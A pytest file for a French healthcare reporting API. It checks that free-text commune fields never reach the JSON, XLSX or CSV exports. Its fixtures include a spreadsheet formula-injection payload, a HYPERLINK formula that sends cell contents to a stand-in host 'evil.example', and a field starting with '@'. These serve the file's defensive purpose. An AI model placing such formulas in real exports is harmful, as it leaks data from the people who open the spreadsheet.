"""What was typed as a commune never reaches reporting, and no export carries a formula.

Cases recorded before postal codes were checked against the commune table may hold anything
in their "commune" field: a patient's identity, or a formula aimed at the spreadsheet of
whoever opens the export. These rows are written to the table directly, as such data was.
"""

from __future__ import annotations

import csv
import io
import uuid
import zipfile

import openpyxl
import pytest
from sqlalchemy import update

from services.orientation.medecin_traitant.models import MedecinTraitantCase
from shared.extensions import db
from tests.support.factories import utc

MARCH = {"from": "2026-03-01", "to": "2026-03-31"}
IDENTITY = "Nomfictif Jean né 12/03/1950 NIR 1850569123456"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")'
TYPED = ("Nomfictif", "1850569123456", "HYPERLINK", "evil.example")
# Unknown postal codes are typed text too (not checked in the extract, whose 64-hex
# pseudonyms could hold five nines by chance).
POSTAL_CODES = ("99999", "98000")
UNKNOWN = "Autre / inconnue"


def _typed(app, case: dict, postal_code: str, city: str) -> None:
    """Give a case the address it would have had before postal codes were checked."""
    with app.app_context():
        db.session.execute(
            update(MedecinTraitantCase)
            .where(MedecinTraitantCase.id == uuid.UUID(case["id"]))
            .values(patient_postal_code=postal_code, patient_city=city)
        )
        db.session.commit()


@pytest.fixture
def reporting(accounts):
    return accounts.create("reporting")


@pytest.fixture
def typed_communes(app, world):
    """Two cases of unknown postal codes (one oriented, with ALD), one of a known postal code
    whose typed commune starts with "@"; one ordinary case in Lyon 3e."""
    _typed(app, world.case_then("submitted", utc(2026, 3, 2, 9)), "99999", IDENTITY)
    oriented = world.case_then("oriented", utc(2026, 3, 3, 9), utc(2026, 3, 9, 9))
    _typed(app, oriented, "98000", FORMULA)
    _typed(app, world.case_then("submitted", utc(2026, 3, 4, 9)), "69100", "@Villeurbanne")
    world.case_then("submitted", utc(2026, 3, 5, 9))


def _assert_nothing_typed(content: bytes, typed_texts: tuple[str, ...] = TYPED) -> None:
    for typed in typed_texts:
        assert typed.encode() not in content, typed


def test_the_json_groups_unknown_communes_in_one_row_without_what_was_typed(
    client, reporting, typed_communes
):
    response = client.get("/api/orientation/indicators", query_string=MARCH, headers=reporting)
    _assert_nothing_typed(response.get_data(), TYPED + POSTAL_CODES)
    communes = {
        row["commune"]: row for row in response.get_json()["medecin_traitant"]["by_commune"]
    }
    assert set(communes) == {UNKNOWN, "Villeurbanne", "Lyon 3e Arrondissement"}
    assert communes[UNKNOWN] == {
        "insee": None,
        "commune": UNKNOWN,
        "postal_code": None,
        "signalements": 2,
        "oriented": 1,
        "oriented_ald": 1,
    }
    assert communes["Villeurbanne"]["insee"] == "69266"
    assert communes["Villeurbanne"]["signalements"] == 1


@pytest.mark.parametrize("public", ["false", "true"])
def test_the_xlsx_holds_no_typed_commune_and_no_formula(client, reporting, typed_communes, public):
    response = client.get(
        "/api/orientation/indicators",
        query_string={**MARCH, "format": "xlsx", "public": public},
        headers=reporting,
    )
    assert response.status_code == 200
    content = response.get_data()
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in ("s", "n"), (sheet.title, cell.coordinate, cell.value)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            _assert_nothing_typed(archive.read(name), TYPED + POSTAL_CODES)
    communes = {row[1]: row for row in list(workbook["par commune"].values)[1:]}
    assert communes[UNKNOWN][0] is None
    assert communes[UNKNOWN][2] is None
    assert communes[UNKNOWN][3] == (2 if public == "false" else "< 5")


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_the_extract_never_carries_the_typed_commune(client, accounts, typed_communes, fmt):
    response = client.get(
        "/api/orientation/indicators/extract",
        query_string={**MARCH, "format": fmt},
        headers=accounts.create("admin"),
    )
    assert response.status_code == 200
    _assert_nothing_typed(response.get_data())
    if fmt == "json":
        items = response.get_json()["items"]
    else:
        raw = response.get_data().decode("utf-8-sig")
        items = list(csv.DictReader(io.StringIO(raw, newline=""), delimiter=";"))
    places = [(row["code_insee"] or None, row["commune"]) for row in items]
    assert places == [
        (None, UNKNOWN),
        (None, UNKNOWN),
        ("69266", "Villeurbanne"),
        ("69383", "Lyon 3e Arrondissement"),
    ]
